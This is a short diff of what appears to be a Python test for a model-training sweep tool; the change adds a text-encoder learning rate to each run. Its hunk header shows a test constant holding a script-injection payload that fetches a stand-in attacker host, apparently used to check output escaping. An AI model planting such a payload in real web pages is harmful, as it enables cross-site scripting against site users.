@@ -22,7 +22,8 @@ NASTY = '<script>fetch("http://evil.example/")</script>'
 def sweep(folder: Path) -> list[dict[str, Any]]:
     """Two bakes of one dataset, the first one done, its samples without halos."""
     bakes = [
-        outlined(folder, f"unet_lr {rate:g}", train={"unet_lr": rate}) for rate in (3e-4, 2e-3)
+        outlined(folder, f"unet_lr {rate:g}", train={"unet_lr": rate, "text_encoder_lr": 4e-4})
+        for rate in (3e-4, 2e-3)
     ]
     filtered(bakes[0], [(64, 64)] * 20 + [(60, 90)] * 5)
     baked(bakes[0], 2.0, memory=1.5, size=3 * 2**20)
